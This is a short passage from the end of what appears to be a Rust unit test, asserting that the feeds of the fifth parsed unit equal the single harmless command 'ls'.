        assert_eq!(text(&units[4].feeds), ["ls"]);
    }
}
